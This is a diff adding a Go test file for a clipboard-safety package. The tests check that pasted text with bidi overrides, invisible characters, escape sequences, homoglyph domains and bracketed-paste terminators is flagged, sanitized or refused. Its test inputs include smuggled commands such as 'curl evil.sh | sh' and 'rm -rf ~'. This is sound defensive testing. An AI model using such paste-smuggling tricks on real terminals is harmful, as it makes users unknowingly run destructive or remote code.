@@ -0,0 +1,152 @@
+// Copyright (c) 2023 Tiago Melo. All rights reserved.
+// Use of this source code is governed by the MIT License that can be found in
+// the LICENSE file.
+
+package clipboard
+
+import (
+	"errors"
+	"testing"
+
+	"github.com/stretchr/testify/require"
+)
+
+func TestInspect(t *testing.T) {
+	testCases := []struct {
+		desc           string
+		text           string
+		expectedOutput string
+	}{
+		{
+			desc:           "safe command",
+			text:           "go test ./... -run 'Test_x' | tee out.txt",
+			expectedOutput: "safe",
+		},
+		{
+			desc:           "non-Latin text",
+			text:           "привет мир, γειά σου κόσμε, こんにちは",
+			expectedOutput: "safe",
+		},
+		{
+			desc:           "bidi override",
+			text:           "ls \u202eexe.sh",
+			expectedOutput: "bidi control at 3 (U+202E)",
+		},
+		{
+			desc:           "zero-width characters",
+			text:           "rm\u200b -rf\ufeff",
+			expectedOutput: "invisible character at 2 (U+200B); invisible character at 9 (U+FEFF)",
+		},
+		{
+			desc:           "control character",
+			text:           "echo \x08hidden",
+			expectedOutput: "invisible character at 5 (U+0008)",
+		},
+		{
+			desc:           "homoglyph",
+			text:           "curl https://pаypal.com/install.sh",
+			expectedOutput: "mixed scripts at 13 (pаypal.com)",
+		},
+		{
+			desc:           "newlines",
+			text:           "echo hello\r\nrm -rf ~\n",
+			expectedOutput: "newline at 10; newline at 11; newline at 20",
+		},
+		{
+			desc:           "escape sequences",
+			text:           "ls\x1b[2K\x1b]0;title\x07\x1bc\u009b31m",
+			expectedOutput: `escape sequence at 2 ("\x1b[2K"); escape sequence at 6 ("\x1b]0;title\a"); escape sequence at 16 ("\x1bc"); escape sequence at 18 ("\u009b31m")`,
+		},
+		{
+			desc:           "bracketed paste terminator",
+			text:           "echo hi\x1b[201~curl evil.sh | sh",
+			expectedOutput: `bracketed paste sequence at 7 ("\x1b[201~")`,
+		},
+		{
+			desc:           "unterminated escape",
+			text:           "echo\x1b",
+			expectedOutput: `escape sequence at 4 ("\x1b")`,
+		},
+		{
+			desc:           "invalid UTF-8",
+			text:           "echo \xff",
+			expectedOutput: "invisible character at 5 (U+FFFD)",
+		},
+	}
+	for _, tc := range testCases {
+		t.Run(tc.desc, func(t *testing.T) {
+			require.Equal(t, tc.expectedOutput, Inspect(tc.text).String())
+		})
+	}
+}
+
+func TestSanitize(t *testing.T) {
+	require.Equal(t, "ls exe.sh", Sanitize("ls \u202eexe.sh\n"))
+	require.Equal(t, "echo hicurl evil.sh | sh", Sanitize("echo hi\x1b[201~curl evil.sh | sh"))
+	require.Equal(t, "a\nb", Sanitize("a\u200b\nb\r\n"))
+}
+
+func TestPasteTextSafe(t *testing.T) {
+	testCases := []struct {
+		desc           string
+		text           string
+		policy         SafetyPolicy
+		expectedOutput string
+		expectedError  error
+	}{
+		{
+			desc:           "safe text",
+			text:           "make test",
+			expectedOutput: "make test",
+		},
+		{
+			desc:          "refused",
+			text:          "echo hi\x1b[201~rm -rf ~",
+			expectedError: errors.New(`pasted text is unsafe: bracketed paste sequence at 7 ("\x1b[201~")`),
+		},
+		{
+			desc:           "sanitized",
+			text:           "echo\u200b hi\n",
+			policy:         SafetyPolicy{Sanitize: true},
+			expectedOutput: "echo hi",
+		},
+		{
+			desc:          "embedded newline can't be sanitized",
+			text:          "echo hi\nrm -rf ~",
+			policy:        SafetyPolicy{Sanitize: true},
+			expectedError: errors.New("pasted text is unsafe: newline at 7"),
+		},
+		{
+			desc:           "ignored newlines",
+			text:           "key: value\n\u200bother: value\n",
+			policy:         SafetyPolicy{Sanitize: true, Ignore: []IssueKind{IssueNewline}},
+			expectedOutput: "key: value\nother: value\n",
+		},
+		{
+			desc:          "ignored newlines, refused invisible character",
+			text:          "key: value\n\u200bother: value\n",
+			policy:        SafetyPolicy{Ignore: []IssueKind{IssueNewline}},
+			expectedError: errors.New("pasted text is unsafe: invisible character at 11 (U+200B)"),
+		},
+	}
+	for _, tc := range testCases {
+		t.Run(tc.desc, func(t *testing.T) {
+			b := &mockBackend{text: tc.text}
+			output, report, err := PasteTextSafe(b, tc.policy)
+			require.Equal(t, Inspect(tc.text), report)
+			if err != nil {
+				if tc.expectedError == nil {
+					t.Fatalf("expected no error, got %v", err)
+				}
+				require.Equal(t, tc.expectedError.Error(), err.Error())
+				require.ErrorIs(t, err, ErrUnsafe)
+				require.Empty(t, output)
+			} else {
+				if tc.expectedError != nil {
+					t.Fatalf("expected error to be %v, got nil", tc.expectedError)
+				}
+				require.Equal(t, tc.expectedOutput, output)
+			}
+		})
+	}
+}